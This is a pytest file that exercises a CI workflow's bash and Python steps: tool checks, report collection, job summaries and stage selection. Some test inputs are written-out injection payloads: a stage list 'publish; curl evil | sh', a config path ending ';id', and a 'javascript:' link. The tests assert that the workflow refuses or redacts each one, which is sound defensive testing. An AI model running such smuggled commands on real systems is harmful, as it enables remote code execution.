"""The reusable workflow's scripts, run for real: tool checks, report collection, job summary.

GitHub runs a ``run:`` step as ``bash --noprofile --norc -eo pipefail`` and a
``shell: python`` step with the runner's Python; these tests do the same on
this machine, with the real conveyor CLI where the job runs it.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from .conftest import FAILING_BUILD_APP, GitRepo
from .rules import REPO, load_yaml

REUSABLE = REPO / ".github" / "workflows" / "conveyor.yml"
VENV_BIN = Path(sys.executable).parent
BASH = shutil.which("bash") or "/bin/bash"


def pipeline_job() -> Any:
    """The reusable workflow's pipeline job."""
    return load_yaml(REUSABLE.read_text("utf-8"))["jobs"]["pipeline"]


def pipeline_step(key: str) -> Any:
    """The pipeline job's step whose id (or else name) is ``key``."""
    return next(s for s in pipeline_job()["steps"] if key in (s.get("id"), s.get("name")))


def job_env(tmp_path: Path, **overrides: str) -> dict[str, str]:
    """The job's environment as the workflow's ``env:`` sets it, with its defaults."""
    (tmp_path / "runner-temp").mkdir(exist_ok=True)
    env = {
        "PATH": f"{VENV_BIN}:{os.environ['PATH']}",
        "HOME": os.environ.get("HOME", str(tmp_path)),
        "CONVEYOR_CONFIG": "conveyor.toml",
        "CONVEYOR_ENGINE": "podman",
        "CONVEYOR_REPORTS": "conveyor-reports",
        "CONVEYOR_STAGES__MANIFEST__ENVIRONMENT": "staging",
        "RUNNER_TEMP": str(tmp_path / "runner-temp"),
        "GITHUB_PATH": str(tmp_path / "github-path.txt"),
        "GITHUB_OUTPUT": str(tmp_path / "github-output.txt"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "github-summary.md"),
    }
    return {**env, **overrides}


def run_bash_step(key: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """Run a ``run:`` step as GitHub's bash shell does, with the step's own ``env:``."""
    step = pipeline_step(key)
    return subprocess.run(
        [BASH, "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        cwd=cwd,
        env={**env, **{k: str(v) for k, v in step.get("env", {}).items() if "${{" not in str(v)}},
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


def run_summary(cwd: Path, env: dict[str, str]) -> tuple[str, dict[str, str]]:
    """Run the summary step's embedded Python; the markdown and the step outputs."""
    step = pipeline_step("summary")
    assert (step["if"], step["shell"]) == ("always()", "python")
    subprocess.run([sys.executable, "-c", step["run"]], env=env, cwd=cwd, check=True, timeout=60)
    output = Path(env["GITHUB_OUTPUT"]).read_text("utf-8")
    pairs = dict(line.split("=", 1) for line in output.splitlines())
    return Path(env["GITHUB_STEP_SUMMARY"]).read_text("utf-8"), pairs


# --- the tool check -------------------------------------------------------------


def test_tool_check_passes_with_git_and_kubectl_on_the_runner(tmp_path: Path) -> None:
    (tmp_path / "conveyor.toml").write_text("")
    done = run_bash_step("tools", tmp_path, job_env(tmp_path, CONVEYOR_ENGINE="dagger"))
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"git: {shutil.which('git')} (git version " in done.stdout
    assert f"kubectl: {shutil.which('kubectl')} (Client Version: " in done.stdout
    # kubectl was there: nothing was downloaded or added to PATH
    assert not (tmp_path / "github-path.txt").exists()


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        (
            {"CONVEYOR_ENGINE": "docker"},
            "::error::engine 'docker' is not an engine: use dagger or podman",
        ),
        (
            {"CONVEYOR_CONFIG": "my app/conveyor.toml"},
            "::error::config 'my app/conveyor.toml' must be a relative path of letters, digits, "
            "'.', '_', '-' and '/'",
        ),
        (
            {"CONVEYOR_CONFIG": "conveyor.toml;id"},
            "::error::config 'conveyor.toml;id' must be a relative path",
        ),
        (
            {"CONVEYOR_CONFIG": "app/conveyor.toml"},
            "::error::config 'app/conveyor.toml' does not exist in ",
        ),
    ],
    ids=["engine", "space", "semicolon", "missing"],
)
def test_tool_check_refuses_bad_inputs(
    tmp_path: Path, overrides: dict[str, str], message: str
) -> None:
    (tmp_path / "conveyor.toml").write_text("")
    done = run_bash_step("tools", tmp_path, job_env(tmp_path, **overrides))
    assert done.returncode == 1
    assert done.stdout.startswith(message), done.stdout


def test_tool_check_fails_without_git(tmp_path: Path) -> None:
    (tmp_path / "conveyor.toml").write_text("")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    kubectl = shutil.which("kubectl")
    assert kubectl is not None
    (bin_dir / "kubectl").symlink_to(kubectl)
    done = run_bash_step("tools", tmp_path, job_env(tmp_path, PATH=str(bin_dir)))
    assert done.returncode == 1
    assert done.stdout == (
        "::error::git is not installed on this runner: the manifest stage commits with it\n"
    )


# --- a real run, collected and summarised ----------------------------------------------


def test_a_real_failed_run_fails_the_step_and_its_reports_are_collected(
    git_repo: GitRepo, tmp_path: Path
) -> None:
    repo = git_repo("app", FAILING_BUILD_APP)
    env = job_env(tmp_path)
    run = run_bash_step("podman", repo, env)
    # the step fails with conveyor's own exit code (1: a stage failed)
    assert run.returncode == 1, run.stdout + run.stderr
    assert "error in stage build: command failed" in run.stderr

    collected = run_bash_step("Collect the run's reports", repo, env)
    assert collected.returncode == 0, collected.stderr
    (run_dir,) = (repo / ".conveyor" / "runs").iterdir()
    assert f"reports of {run_dir.name}\n" in collected.stdout
    reports = repo / "conveyor-reports"
    # the report stage's summary.json and stages.junit.xml (every stage as a test case)
    assert sorted(p.name for p in reports.iterdir()) == [
        "spans.jsonl",
        "stages.junit.xml",
        "summary.json",
    ]
    summary = json.loads((reports / "summary.json").read_text())
    assert summary["run_id"] == run_dir.name
    assert (reports / "spans.jsonl").read_bytes() == (run_dir / "spans.jsonl").read_bytes()

    markdown, outputs = run_summary(repo, env)
    assert "| build | failed | " in markdown
    assert "| publish | skipped | 0.0s | 0 | dependency 'build' failed |" in markdown
    assert "Result: **failed**" in markdown
    assert f"Run: `{run_dir.name}` of `{summary['sha']}`" in markdown
    spans = [json.loads(line) for line in (run_dir / "spans.jsonl").read_text().splitlines()]
    (trace_id,) = {s["trace_id"] for s in spans if s["name"] == "conveyor.run"}
    assert f"Trace id: `{trace_id}`" in markdown
    assert outputs == {
        "image": "",
        "manifest-commit": "",
        "trace-id": trace_id,
        "trace-url": "",
        "ok": "false",
    }


def test_collect_takes_this_jobs_run_not_the_newest(tmp_path: Path) -> None:
    # a persistent workspace: a later run of another job is newer than this job's
    runs = tmp_path / "app" / ".conveyor" / "runs"
    for name, stamp in (
        ("20260101T000000Z-ours", 1_000_000),
        ("20260101T000001Z-other", 2_000_000),
    ):
        (runs / name / "artifacts" / "test").mkdir(parents=True)
        (runs / name / "artifacts" / "summary.json").write_text(json.dumps({"run_id": name}))
        (runs / name / "artifacts" / "test" / "junit.xml").write_text(f"<testsuite name='{name}'/>")
        os.utime(runs / name, (stamp, stamp))
    env = job_env(tmp_path, CONVEYOR_CONFIG="app/conveyor.toml", CONVEYOR_REPORTS="out")
    Path(env["RUNNER_TEMP"]).mkdir(parents=True, exist_ok=True)
    (Path(env["RUNNER_TEMP"]) / "conveyor-run-id").write_text("20260101T000000Z-ours\n")
    done = run_bash_step("Collect the run's reports", tmp_path, env)
    assert done.returncode == 0, done.stderr
    assert done.stdout == (
        "reports of 20260101T000000Z-ours\nout/summary.json\nout/test/junit.xml\n"
    )
    assert json.loads((tmp_path / "out" / "summary.json").read_text()) == {
        "run_id": "20260101T000000Z-ours"
    }


def test_collect_without_a_run_warns_and_leaves_an_empty_directory(tmp_path: Path) -> None:
    done = run_bash_step("Collect the run's reports", tmp_path, job_env(tmp_path))
    assert done.returncode == 0
    assert done.stdout == "::warning::this job recorded no conveyor run under ./.conveyor/runs\n"
    assert list((tmp_path / "conveyor-reports").iterdir()) == []


# --- the job summary on a sample of every report ------------------------------------

JUNIT = """<?xml version="1.0"?>
<testsuites><testsuite name="pytest" tests="3" failures="1" errors="0" skipped="1">
<testcase classname="tests.test_app" name="test_ok"/>
<testcase classname="tests.test_app" name="test_bad"><failure message="no"/></testcase>
<testcase classname="tests.test_app" name="test_skip"><skipped/></testcase>
</testsuite></testsuites>
"""
DIGEST = "sha256:" + "1" * 64
IMAGE = f"myacr.azurecr.io/hello:{'a' * 40}@{DIGEST}"
TRACE_ID = "5bbe8a8b5c64194b0ef98bb2da87f5fc"
SPANS = (
    "\n".join(
        json.dumps({"name": name, "trace_id": TRACE_ID, "span_id": span, "parent_id": parent})
        for name, span, parent in (
            ("stage test", "2" * 16, "1" * 16),
            ("conveyor.run", "1" * 16, None),
        )
    )
    + '\n{"name": "cut sh'
)  # a run cut short leaves half a line


def summary_json(ok: bool) -> dict[str, object]:
    """A summary.json as the report stage writes it (conveyor.stages.delivery.write_summary)."""
    manifest_row = {
        "name": "manifest",
        "status": "success" if ok else "failed",
        "reason": "" if ok else "push rejected | protected branch",
        "duration": 1.5,
        "attempts": 1,
    }
    return {
        "sha": "a" * 40,
        "run_id": "20260101T000000Z-abc123",
        "ok": ok,
        "stages": [
            {"name": "test", "status": "success", "reason": "", "duration": 12.34, "attempts": 1},
            {"name": "publish", "status": "success", "reason": "", "duration": 3.0, "attempts": 2},
            manifest_row,
        ],
        "outputs": {
            "test": {"tests": "3", "failures": "1"},
            "publish": {"image.ref": IMAGE, "image.digest": DIGEST},
            **({"manifest": {"environment": "staging", "commit": "c0ffee1"}} if ok else {}),
        },
    }


def write_reports(directory: Path, files: dict[str, str]) -> None:
    for relative, text in files.items():
        (directory / relative).parent.mkdir(parents=True, exist_ok=True)
        (directory / relative).write_text(text)


def test_job_summary_shows_stages_image_digest_commit_trace_and_tests(tmp_path: Path) -> None:
    write_reports(
        tmp_path,
        {
            "conveyor.toml": '[gitops]\nrepo = "https://github.com/acme/manifests.git"\n',
            "conveyor-reports/summary.json": json.dumps(summary_json(ok=True)),
            "conveyor-reports/spans.jsonl": SPANS,
            "conveyor-reports/test/junit.xml": JUNIT,
            "conveyor-reports/scan/trivy.json": "{}",
        },
    )
    markdown, outputs = run_summary(tmp_path, job_env(tmp_path, CONVEYOR_ENGINE="dagger"))
    assert markdown.startswith("## Conveyor\n\nEngine: dagger\n\n")
    assert "| stage | status | time | attempts | reason / outputs |" in markdown
    assert "| test | success | 12.3s | 1 | failures=1, tests=3 |" in markdown
    assert f"| publish | success | 3.0s | 2 | image.digest={DIGEST} |" in markdown
    assert "Result: passed" in markdown
    assert f"Run: `20260101T000000Z-abc123` of `{'a' * 40}`" in markdown
    assert f"Image: `{IMAGE}`" in markdown
    assert f"Digest: `{DIGEST}`" in markdown
    assert "Manifest commit: https://github.com/acme/manifests/commit/c0ffee1" in markdown
    assert f"Trace id: `{TRACE_ID}`" in markdown
    assert "### Unit tests (test/junit.xml)" in markdown
    assert "3 tests, 1 failures, 0 errors, 1 skipped" in markdown
    assert "- :x: `tests.test_app.test_bad`" in markdown
    assert outputs == {
        "image": IMAGE,
        "manifest-commit": "https://github.com/acme/manifests/commit/c0ffee1",
        "trace-id": TRACE_ID,
        "trace-url": "",
        "ok": "true",
    }


@pytest.mark.parametrize(
    ("config_name", "config", "link"),
    [
        (
            "conveyor.toml",
            '[gitops]\nrepo = "git@gitlab.com:acme/team/manifests.git"\n',
            "https://gitlab.com/acme/team/manifests/-/commit/c0ffee1",
        ),
        (
            "conveyor.toml",
            '[gitops]\nrepo = "https://ci:hunter2@git.example.com/acme/manifests"\n'
            '[gitops.forge]\nkind = "gitlab"\n',
            "https://git.example.com/acme/manifests/-/commit/c0ffee1",
        ),
        (
            "conveyor.toml",
            '[gitops]\nrepo = "ssh://git@github.example.com:2222/acme/manifests.git"\n',
            "https://github.example.com/acme/manifests/commit/c0ffee1",
        ),
        ("conveyor.toml", '[gitops]\nrepo = "../manifests.git"\n', "c0ffee1"),
        (
            "pyproject.toml",
            '[tool.conveyor.gitops]\nrepo = "https://github.com/acme/manifests"\n',
            "https://github.com/acme/manifests/commit/c0ffee1",
        ),
        ("conveyor.toml", "not toml [", "c0ffee1"),
    ],
    ids=["gitlab-scp", "credentials-dropped", "ssh-port", "local-path", "pyproject", "bad-toml"],
)
def test_manifest_commit_link_follows_the_manifest_repository(
    tmp_path: Path, config_name: str, config: str, link: str
) -> None:
    write_reports(
        tmp_path,
        {
            config_name: config,
            "conveyor-reports/summary.json": json.dumps(summary_json(ok=True)),
        },
    )
    markdown, outputs = run_summary(tmp_path, job_env(tmp_path, CONVEYOR_CONFIG=config_name))
    assert outputs["manifest-commit"] == link
    assert f"Manifest commit: {link}\n" in markdown
    assert "hunter2" not in markdown


DAGGER_TRACE = "https://dagger.cloud/acme/traces/4bf92f3577b34da6a3ce929d0e0e4736"


def test_job_summary_shows_the_dagger_cloud_trace_when_the_run_has_one(tmp_path: Path) -> None:
    write_reports(
        tmp_path,
        {
            "conveyor-reports/summary.json": json.dumps(
                {**summary_json(ok=True), "trace_url": DAGGER_TRACE}
            )
        },
    )
    markdown, outputs = run_summary(tmp_path, job_env(tmp_path, CONVEYOR_ENGINE="dagger"))
    assert f"\nDagger Cloud trace: {DAGGER_TRACE}\n" in markdown
    assert outputs["trace-url"] == DAGGER_TRACE


@pytest.mark.parametrize(
    "link",
    [
        f"{DAGGER_TRACE}?token=dag_secret",
        "https://ci:dag_secret@dagger.cloud/acme/traces/1",
        f"{DAGGER_TRACE}#t=dag_secret",
        "javascript:alert('dag_secret')",
        42,
    ],
    ids=["query", "userinfo", "fragment", "not-https", "not-a-string"],
)
def test_job_summary_never_prints_a_link_that_could_carry_a_token(
    tmp_path: Path, link: object
) -> None:
    summary = {**summary_json(ok=True), "trace_url": link}
    write_reports(tmp_path, {"conveyor-reports/summary.json": json.dumps(summary)})
    markdown, outputs = run_summary(tmp_path, job_env(tmp_path, CONVEYOR_ENGINE="dagger"))
    assert "Dagger Cloud trace" not in markdown
    assert "dag_secret" not in markdown
    assert outputs["trace-url"] == ""
    assert outputs["ok"] == "true"  # a link never changes the verdict


def test_job_summary_of_a_failed_run_shows_the_reason_and_says_not_ok(tmp_path: Path) -> None:
    write_reports(tmp_path, {"conveyor-reports/summary.json": json.dumps(summary_json(ok=False))})
    markdown, outputs = run_summary(tmp_path, job_env(tmp_path))
    assert "| manifest | failed | 1.5s | 1 | push rejected \\| protected branch |" in markdown
    assert "Result: **failed**" in markdown
    assert "Manifest commit" not in markdown
    assert "Trace id" not in markdown  # no spans.jsonl
    assert outputs == {
        "image": IMAGE,
        "manifest-commit": "",
        "trace-id": "",
        "trace-url": "",
        "ok": "false",
    }


def test_job_summary_without_reports_says_so(tmp_path: Path) -> None:
    (tmp_path / "conveyor-reports").mkdir()
    markdown, outputs = run_summary(tmp_path, job_env(tmp_path))
    assert "No stage results: conveyor-reports/summary.json was not written." in markdown
    assert outputs == {
        "image": "",
        "manifest-commit": "",
        "trace-id": "",
        "trace-url": "",
        "ok": "false",
    }


def test_verdict_step_fails_when_no_ok_summary_was_collected(tmp_path: Path) -> None:
    done = run_bash_step("Check the verdict", tmp_path, job_env(tmp_path))
    assert done.returncode == 1
    assert done.stdout == (
        '::error::conveyor run exited 0 but no summary.json saying "ok": true was collected '
        "into conveyor-reports\n"
    )


# --- stage selection: pull requests validate, --only/--skip from the inputs ------------


def select(tmp_path: Path, **values: str) -> tuple[subprocess.CompletedProcess[str], str]:
    tmp_path.mkdir(exist_ok=True)
    env = job_env(tmp_path, EVENT="push", VALIDATE="test build scan smoke", ONLY="", SKIP="")
    done = run_bash_step("select", tmp_path, {**env, **values})
    output = Path(env["GITHUB_OUTPUT"])
    return done, output.read_text("utf-8") if output.exists() else ""


def test_a_push_runs_everything_and_a_pull_request_only_validates(tmp_path: Path) -> None:
    done, output = select(tmp_path / "push")
    assert done.returncode == 0, done.stderr
    assert output == "args=\n"
    done, output = select(tmp_path / "pr", EVENT="pull_request")
    assert output == "args=--validate test --validate build --validate scan --validate smoke\n"
    done, output = select(tmp_path / "pr-empty", EVENT="pull_request_target", VALIDATE="")
    assert output == "args=--validate gates\n"  # an empty input validates too
    done, output = select(tmp_path / "pr-blank", EVENT="pull_request", VALIDATE="   ")
    assert output == "args=--validate gates\n"  # and a blank one
    done, output = select(tmp_path / "only", ONLY="test build", SKIP="smoke")
    assert output == "args=--only test --only build --skip smoke\n"


def test_stage_inputs_that_are_not_names_are_refused(tmp_path: Path) -> None:
    done, output = select(tmp_path, SKIP="publish; curl evil | sh")
    assert done.returncode == 1
    assert "::error::'publish; curl evil | sh' is not a list of stage names" in done.stdout
    assert output == ""


def pull_request_run(repo: Path, tmp_path: Path, validate: str) -> tuple[str, dict[str, Any]]:
    """The select step of a pull request, then the podman step with its arguments, for real."""
    env = job_env(tmp_path, EVENT="pull_request", VALIDATE=validate, ONLY="", SKIP="")
    done = run_bash_step("select", repo, env)
    assert done.returncode == 0, done.stdout + done.stderr
    (line,) = Path(env["GITHUB_OUTPUT"]).read_text().splitlines()
    run = run_bash_step("podman", repo, {**env, "CONVEYOR_STAGE_ARGS": line[len("args=") :]})
    assert run.returncode == 1, run.stdout + run.stderr  # the build fails, as the app means it to
    (run_dir,) = (repo / ".conveyor" / "runs").iterdir()
    summary = json.loads((run_dir / "artifacts" / "summary.json").read_text())
    return run.stdout + run.stderr, summary


def test_a_pull_request_run_runs_every_gate_by_default(git_repo: GitRepo, tmp_path: Path) -> None:
    repo = git_repo("app", FAILING_BUILD_APP)
    out, summary = pull_request_run(repo, tmp_path, "gates")
    assert "validation: every stage publish waits for; skipped: publish and what needs it" in out
    reasons = {row["name"]: row["reason"] for row in summary["stages"]}
    assert reasons["publish"] == "a validation run (--validate gates) publishes nothing"
    assert reasons["manifest"] == "dependency 'publish' was skipped"
    assert {row["name"]: row["status"] for row in summary["stages"]}["build"] == "failed"


def test_a_pull_request_run_skips_publish_and_what_follows_it(
    git_repo: GitRepo, tmp_path: Path
) -> None:
    repo = git_repo("app", FAILING_BUILD_APP)
    out, summary = pull_request_run(repo, tmp_path, "test build scan smoke")
    assert "validation: test build scan smoke; every other stage is skipped" in out
    reasons = {row["name"]: row["reason"] for row in summary["stages"]}
    assert reasons["publish"] == (
        "a validation run (--validate test build scan smoke) publishes nothing"
    )
    assert reasons["manifest"] == "not in --validate test build scan smoke"
    assert reasons["policy"] == "not in --validate test build scan smoke"


def test_the_pipeline_job_has_no_stage_list_script_of_its_own() -> None:
    # the stage list is read by one CLI path, `conveyor run --validate`
    scripts = "\n".join(str(step.get("run", "")) for step in pipeline_job()["steps"])
    assert "conveyor graph" not in scripts
    assert "--validate $stage" in scripts


def test_job_summary_survives_a_malformed_xml_file(tmp_path: Path) -> None:
    write_reports(
        tmp_path,
        {
            "conveyor-reports/summary.json": json.dumps(summary_json(ok=True)),
            "conveyor-reports/test/broken.xml": "<testsuite><testcase",
        },
    )
    markdown, outputs = run_summary(tmp_path, job_env(tmp_path))
    assert "test/broken.xml: not readable XML (" in markdown
    assert "Result: passed" in markdown
    assert outputs["ok"] == "true"  # a good run stays good
